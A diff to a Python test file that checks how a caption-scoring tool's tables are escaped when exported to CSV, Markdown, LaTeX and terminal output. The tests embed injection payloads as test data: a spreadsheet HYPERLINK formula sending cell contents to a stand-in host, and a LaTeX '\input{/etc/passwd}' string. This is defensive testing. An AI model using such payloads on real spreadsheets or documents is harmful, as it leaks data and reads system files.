@@ -15,7 +15,17 @@ from PIL import Image
 
 from captune.captions import read_captions
 from captune.cli import main
-from captune.tables import as_typed, csv_row, harmless
+from captune.printing import console
+from captune.tables import (
+    Column,
+    Estimate,
+    Fraction,
+    Number,
+    Table,
+    as_typed,
+    csv_row,
+    harmless,
+)
 
 FORMULA = "=HYPERLINK(\"x.example/?\"&A1,\"a dog\")"  # fmt: skip
 # what spreadsheets begin a formula with, behind what they leave away or divide cells by
@@ -158,3 +168,91 @@ def test_score_rank_compare_and_report(tmp_path: Path, raw: bool) -> None:
         assert_harmless(path)
     back = read_captions(tables[-1]).captions
     assert {image: [caption] for image, caption in captions.items()} == back
+
+
+def _scores() -> Table:
+    return Table(
+        "scores-1",
+        "Scores of 2 files & more",
+        [
+            Column("captions"),
+            Column("CIDEr-D", "cider", number=True),
+            Column("", wide=True),
+            Column("p", number=True),
+        ],
+        [
+            [
+                "=a_b|c",
+                Estimate(Number(0.51234, "0.512"), (Number(0.4, "0.400"), Number(0.6, "0.600"))),
+                Fraction(0.5),
+                None,
+            ],
+            ["50 % {x}", Estimate(Number(-0.25, "−0.250")), Fraction(0.1), Number(0.0123, "0.012")],
+        ],
+        frozenset({1}),
+        "An <i>interval</i> below each.",
+    )
+
+
+def test_values_have_all_digits_and_both_ends() -> None:
+    assert _scores().values() == [
+        ["captions", "cider", "cider_low", "cider_high", "p"],
+        ["=a_b|c", 0.51234, 0.4, 0.6, ""],
+        ["50 % {x}", -0.25, "", "", 0.0123],
+    ]
+    assert _scores().csv().splitlines()[1] == "'=a_b|c,0.51234,0.4,0.6,"
+
+
+def test_a_column_without_a_key_names_both_ends_in_words() -> None:
+    estimate = Estimate(Number(1, "1"), (Number(0, "0"), Number(2, "2")))
+    table = Table("t", "T", [Column("score")], [[estimate]])
+    assert table.values()[0] == ["score", "score, 95 % from", "score, 95 % to"]
+
+
+def test_markdown_shows_what_others_typed_as_text() -> None:
+    assert _scores().markdown() == (
+        "Scores of 2 files \\& more\n\n"
+        "| captions | CIDEr-D | p |\n"
+        "| --- | ---: | ---: |\n"
+        "| =a\\_b\\|c | 0.512 \\[0.400, 0.600\\] | – |\n"
+        "| **50 % {x}** | **−0.250** | **0.012** |\n\n"
+        "An \\<i\\>interval\\</i\\> below each.\n"
+    )
+
+
+def test_latex_is_escaped_and_in_the_style_of_booktabs() -> None:
+    assert _scores().latex() == (
+        "\\begin{table}\n"
+        "\\centering\n"
+        "\\caption{Scores of 2 files \\& more}\n"
+        "\\label{tab:scores-1}\n"
+        "\\begin{tabular}{lrr}\n"
+        "\\toprule\n"
+        "captions & CIDEr-D & p \\\\\n"
+        "\\midrule\n"
+        "=a\\_b\\textbar{}c & 0.512 [0.400, 0.600] & -- \\\\\n"
+        "\\textbf{50 \\% \\{x\\}} & \\textbf{$-$0.250} & \\textbf{0.012} \\\\\n"
+        "\\bottomrule\n"
+        "\\end{tabular}\n"
+        "\\par\\smallskip{\\footnotesize An \\textless{}i\\textgreater{}interval"
+        "\\textless{}/i\\textgreater{} below each.}\n"
+        "\\end{table}\n"
+    )
+
+
+def test_a_backslash_stays_a_backslash_in_latex() -> None:
+    table = Table("t", "", [Column("x")], [["\\input{/etc/passwd} ^~#$"]])
+    assert (
+        "\\textbackslash{}input\\{/etc/passwd\\} \\textasciicircum{}\\textasciitilde{}\\#\\$ \\\\"
+        in table.latex()
+    )
+
+
+def test_a_terminal_shows_every_cell_and_the_note(capsys: pytest.CaptureFixture[str]) -> None:
+    console().print(_scores().for_terminal())
+    lines = capsys.readouterr().out.splitlines()
+    assert lines[0].strip() == "Scores of 2 files & more"
+    assert lines[1].split() == ["captions", "CIDEr-D", "p"]
+    assert lines[2].split() == ["=a_b|c", "0.512", "[0.400,", "0.600]", "–"]
+    assert lines[3].split() == ["50", "%", "{x}", "−0.250", "0.012"]
+    assert lines[4].strip() == "An <i>interval</i> below each."
